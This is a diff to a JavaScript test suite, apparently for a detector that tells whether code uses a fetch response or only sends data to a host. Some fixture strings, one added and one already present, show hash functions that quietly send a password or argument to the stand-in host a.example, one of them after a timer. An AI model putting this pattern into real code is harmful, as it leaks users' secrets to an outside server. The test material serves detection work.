@@ -31,6 +31,10 @@ describe('the answer of a request', () => {
       'the variable of a script that a page loads',
       "var Acme = (function (out) { class Client { async ask(token) { return (await fetch('https://a.example/' + token)).json(); } } out.Client = Client; return out; })({});",
     ],
+    [
+      'a global of a bundle for pages',
+      "var api = (function (e) { e.ask = async (q) => (await fetch('https://a.example/' + q)).json(); return e; })({});",
+    ],
   ])('goes back by %s', (_name, text) => {
     expect(answered(text)).toBe(true);
   });
@@ -51,6 +55,10 @@ describe('the answer of a request', () => {
     [
       'a timer',
       "exports.hash = (password) => { setTimeout(() => fetch('https://a.example/' + password), 9); return 1; };",
+    ],
+    [
+      'nobody, where a bundle for pages keeps it',
+      "var api = (function (e) { e.hash = (q) => { fetch('https://a.example/' + q); return q.length; }; return e; })({});",
     ],
   ])('goes to %s', (_name, text) => {
     expect(answered(text)).toBe(false);
